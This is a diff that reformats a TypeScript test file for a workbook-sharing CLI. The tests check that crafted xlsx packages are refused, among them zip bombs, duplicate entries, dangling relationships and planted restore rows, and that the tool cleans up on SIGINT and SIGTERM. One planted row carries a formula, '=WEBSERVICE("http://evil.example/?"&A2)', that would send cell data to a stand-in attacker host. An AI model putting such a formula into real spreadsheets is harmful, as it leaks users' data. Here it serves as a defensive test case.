@@ -71,22 +71,40 @@ describe("crafted packages", () => {
   it("a sheet cell holding a 40 MB text run is refused by its length, as it streams", async () => {
     const bytes = await crafted.longTextRun(40_000_000);
     expect(bytes.length).toBeLessThan(200_000);
-    await refusedWith("longrun", bytes, /xl\/worksheets\/sheet1\.xml holds a run of more than 1,000,000 characters without markup \(an Excel cell holds at most 32,767\)/);
+    await refusedWith(
+      "longrun",
+      bytes,
+      /xl\/worksheets\/sheet1\.xml holds a run of more than 1,000,000 characters without markup \(an Excel cell holds at most 32,767\)/,
+    );
   });
 
   it("a part stated as 1 KB that inflates to 50 MB is refused after its first kilobytes", async () => {
     const bytes = await crafted.inflatesBeyondStated(50_000_000);
     expect(bytes.length).toBeLessThan(200_000);
-    await refusedWith("bomb", bytes, /its part xl\/media\/image1\.png unpacks to more than the 1,024 bytes its zip directory states \(a damaged file or a zip bomb\)/);
+    await refusedWith(
+      "bomb",
+      bytes,
+      /its part xl\/media\/image1\.png unpacks to more than the 1,024 bytes its zip directory states \(a damaged file or a zip bomb\)/,
+    );
   });
 
   it("a package naming one part twice is refused, not resolved to the last copy", async () => {
-    await refusedWith("twice", await crafted.duplicateEntry("xl/worksheets/sheet1.xml"), /its zip package holds xl\/worksheets\/sheet1\.xml twice/);
+    await refusedWith(
+      "twice",
+      await crafted.duplicateEntry("xl/worksheets/sheet1.xml"),
+      /its zip package holds xl\/worksheets\/sheet1\.xml twice/,
+    );
   });
 
   it.each([
-    ["xl/sharedStrings.xml", /xl\/_rels\/workbook\.xml\.rels points at xl\/sharedStrings\.xml \(relationship rId2\), which the package does not hold/],
-    ["xl/worksheets/sheet1.xml", /xl\/_rels\/workbook\.xml\.rels points at xl\/worksheets\/sheet1\.xml \(relationship rId1\), which the package does not hold/],
+    [
+      "xl/sharedStrings.xml",
+      /xl\/_rels\/workbook\.xml\.rels points at xl\/sharedStrings\.xml \(relationship rId2\), which the package does not hold/,
+    ],
+    [
+      "xl/worksheets/sheet1.xml",
+      /xl\/_rels\/workbook\.xml\.rels points at xl\/worksheets\/sheet1\.xml \(relationship rId1\), which the package does not hold/,
+    ],
   ])("a relationship pointing at a missing %s is refused by name", async (missing, message) => {
     await refusedWith(`dangling-${missing.replace(/\W/g, "")}`, await crafted.danglingRelationship(missing), message);
   });
@@ -94,16 +112,32 @@ describe("crafted packages", () => {
 
 describe("--restore trusts only what conversion writes in AIECON_Originals", () => {
   it.each([
-    ["a written range of the whole sheet", ["Usage", "G2", '=_xldudf_AIECON_COSTPERINTERACTION(B2,C2,"gpt-4o")', "", "A1:XFD1048576", "2026-12-01"], /written range 'A1:XFD1048576' is not the block its cell G2 spilled into/],
-    ["a huge written range anchored at its cell", ["Usage", "A1", '=_xldudf_AIECON_COSTPERINTERACTION(B2,C2,"gpt-4o")', "", "A1:XFD1048576", "2026-12-01"], /covers 17,179,869,184 cells, more than the 250,000/],
-    ["a formula that is not AIECON's", ["Usage", "H2", '=WEBSERVICE("http://evil.example/?"&A2)', "", "", "2026-12-01"], /its formula '=WEBSERVICE\("http:\/\/evil\.example\/\?"&A2\)' calls no AIECON function/],
+    [
+      "a written range of the whole sheet",
+      ["Usage", "G2", '=_xldudf_AIECON_COSTPERINTERACTION(B2,C2,"gpt-4o")', "", "A1:XFD1048576", "2026-12-01"],
+      /written range 'A1:XFD1048576' is not the block its cell G2 spilled into/,
+    ],
+    [
+      "a huge written range anchored at its cell",
+      ["Usage", "A1", '=_xldudf_AIECON_COSTPERINTERACTION(B2,C2,"gpt-4o")', "", "A1:XFD1048576", "2026-12-01"],
+      /covers 17,179,869,184 cells, more than the 250,000/,
+    ],
+    [
+      "a formula that is not AIECON's",
+      ["Usage", "H2", '=WEBSERVICE("http://evil.example/?"&A2)', "", "", "2026-12-01"],
+      /its formula '=WEBSERVICE\("http:\/\/evil\.example\/\?"&A2\)' calls no AIECON function/,
+    ],
   ])("%s is refused by its row, before anything is cleared or written", async (_, row, message) => {
     const r = await refusedWith(`planted-${row[1]}`, await crafted.withOriginals([row]), message, "--restore");
     expect(r.err).toMatch(/Nothing was restored: AIECON_Originals entry 1 \(Usage!/);
   });
 
   it("a row as conversion writes it is restored", async () => {
-    const r = await run("kept", await crafted.withOriginals([["Usage", "F2", '=_xldudf_AIECON_COSTPERINTERACTION(B2,C2,"gpt-4o")', "", "", "2026-12-01"]]), "--restore");
+    const r = await run(
+      "kept",
+      await crafted.withOriginals([["Usage", "F2", '=_xldudf_AIECON_COSTPERINTERACTION(B2,C2,"gpt-4o")', "", "", "2026-12-01"]]),
+      "--restore",
+    );
     expect(r.err).toBe("");
     expect(r.out).toMatch(/1 AIECON formula\(s\) restored/);
   });
@@ -141,24 +175,32 @@ describe("signals", () => {
   const root = join(__dirname, "..", "..");
   beforeAll(() => {
     // The bin runs the compiled CLI: compile the current source, as `npm run build:cli` does.
-    execFileSync(process.execPath, [join(root, "node_modules", "typescript", "bin", "tsc"), "-p", "tsconfig.cli.json"], { cwd: root, stdio: "pipe" });
+    execFileSync(process.execPath, [join(root, "node_modules", "typescript", "bin", "tsc"), "-p", "tsconfig.cli.json"], {
+      cwd: root,
+      stdio: "pipe",
+    });
   });
 
-  it.each(["SIGINT", "SIGTERM"] as const)("%s during a conversion removes the temporary file and writes no output", async (signal) => {
-    const folder = mkdtempSync(join(dir, "signal-"));
-    const input = join(folder, "big.xlsx");
-    writeFileSync(input, await bigWorkbook({ rows: 60_000, aiecon: 100 }));
-    const before = readFileSync(input);
-    const output = join(folder, "out.xlsx");
-    const child = spawn(process.execPath, [join(root, "bin", "aiecon-share.mjs"), input, output], { cwd: root, stdio: "ignore" });
-    // The temporary file is made before any work: once it is there, the conversion is under way.
-    for (let i = 0; i < 600 && leftovers(folder).length === 0 && child.exitCode === null; i++) await new Promise((r) => setTimeout(r, 50));
-    expect(leftovers(folder)).toHaveLength(1);
-    child.kill(signal);
-    const [code, by] = await new Promise<[number | null, string | null]>((resolve) => child.on("exit", (c, s) => resolve([c, s])));
-    expect(by ?? code).toBe(signal);
-    expect(leftovers(folder)).toEqual([]);
-    expect(existsSync(output)).toBe(false);
-    expect(readFileSync(input).equals(before)).toBe(true);
-  }, 60_000);
+  it.each(["SIGINT", "SIGTERM"] as const)(
+    "%s during a conversion removes the temporary file and writes no output",
+    async (signal) => {
+      const folder = mkdtempSync(join(dir, "signal-"));
+      const input = join(folder, "big.xlsx");
+      writeFileSync(input, await bigWorkbook({ rows: 60_000, aiecon: 100 }));
+      const before = readFileSync(input);
+      const output = join(folder, "out.xlsx");
+      const child = spawn(process.execPath, [join(root, "bin", "aiecon-share.mjs"), input, output], { cwd: root, stdio: "ignore" });
+      // The temporary file is made before any work: once it is there, the conversion is under way.
+      for (let i = 0; i < 600 && leftovers(folder).length === 0 && child.exitCode === null; i++)
+        await new Promise((r) => setTimeout(r, 50));
+      expect(leftovers(folder)).toHaveLength(1);
+      child.kill(signal);
+      const [code, by] = await new Promise<[number | null, string | null]>((resolve) => child.on("exit", (c, s) => resolve([c, s])));
+      expect(by ?? code).toBe(signal);
+      expect(leftovers(folder)).toEqual([]);
+      expect(existsSync(output)).toBe(false);
+      expect(readFileSync(input).equals(before)).toBe(true);
+    },
+    60_000,
+  );
 });
